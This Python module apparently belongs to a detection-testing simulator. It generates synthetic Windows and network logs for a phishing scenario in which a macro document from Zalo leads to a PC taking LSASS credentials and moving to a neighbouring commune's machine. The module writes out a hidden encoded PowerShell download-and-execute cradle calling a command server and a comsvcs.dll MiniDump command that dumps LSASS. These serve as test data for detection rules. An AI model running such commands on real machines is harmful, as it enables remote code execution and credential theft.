"""The attack on an office: a document, encoded PowerShell, LSASS, and the neighbouring commune."""

from __future__ import annotations

import base64
from typing import TYPE_CHECKING

from luytre.simulator import expected, network
from luytre.simulator.attackers import COMMAND_SERVER
from luytre.simulator.attacks import begin_s, pace
from luytre.simulator.journal import Plot
from luytre.simulator.scene import Scene, chance
from luytre.simulator.windows import EXPLORER, OFFICE, SHELL, SYSTEM32, ZALO_FILES
from luytre.simulator.windows_events import (
    account,
    connection,
    lsass_access,
    process,
    windows_file,
)

if TYPE_CHECKING:
    from luytre.simulator.province import Commune, Pc

ATTACK = "phishing"
WORD, RUNDLL = OFFICE + "WINWORD.EXE", SYSTEM32 + "rundll32.exe"
SCRIPT = f"IEX (New-Object Net.WebClient).DownloadString('http://{COMMAND_SERVER}/u')"
LOADER = (
    f"powershell.exe -NoP -W Hidden -enc {base64.b64encode(SCRIPT.encode('utf-16-le')).decode()}"
)
DUMP = f"rundll32.exe {SYSTEM32}comsvcs.dll, MiniDump 652 C:\\ProgramData\\d.bin full"


def phishing(scene: Scene) -> None:
    """Let somebody open a document from Zalo; what it starts dumps LSASS and goes next door."""
    scene.journal.plot(Plot(
        ATTACK, "Tài liệu lừa đảo chiếm máy trạm xã", "Phishing document takes over an office PC",
        "A document received over Zalo starts encoded PowerShell, which calls its server, dumps "
        "LSASS and connects to a machine of another commune over SMB.",
    ))  # fmt: skip
    dice = chance(scene.seed, ATTACK)
    commune, neighbour = dice.sample(scene.province.communes, 2)
    pc = dice.choice(commune.pcs)
    start, after = begin_s(scene, ATTACK), pace(scene, 6)
    for index, (line, rules) in enumerate(_steps(scene, commune, pc, start)):
        at_s = start + after(index)
        scene.journal.incriminate(ATTACK, windows_file(commune), at_s, line, rules)
    at_s = start + after(5)
    line = network.session(scene, at_s, pc.address, neighbour.pcs[2].address, 445, service="smb")
    rules = (expected.OFFICE_TO_OFFICE,)
    scene.journal.incriminate(ATTACK, network.CONN, at_s, line, rules)


def _steps(
    scene: Scene, commune: Commune, pc: Pc, start: float
) -> tuple[tuple[str, tuple[str, ...]], ...]:
    """Return what the machine reports, one after the other, and which rules must see it."""
    user, after = account(commune, pc), pace(scene, 6)
    document = ZALO_FILES.format(user=pc.person.account) + "Giay moi hop khan.docm"
    opened = f'"{WORD}" /n "{document}"'
    system = "NT AUTHORITY\\SYSTEM"
    return (
        (process(scene, start, pc, user, WORD, opened, EXPLORER), ()),
        (
            process(scene, start + after(1), pc, user, SHELL, LOADER, WORD, opened),
            (expected.OFFICE_POWERSHELL,),
        ),
        (
            connection(scene, start + after(2), pc, user, SHELL, COMMAND_SERVER, 80),
            (expected.PC_TO_INDICATOR,),
        ),
        (
            process(scene, start + after(3), pc, system, RUNDLL, DUMP, SHELL, LOADER),
            (expected.LSASS_DUMPED,),
        ),
        (
            lsass_access(scene, start + after(4), pc, RUNDLL, "0x1fffff"),
            (expected.LSASS_READ,),
        ),
    )
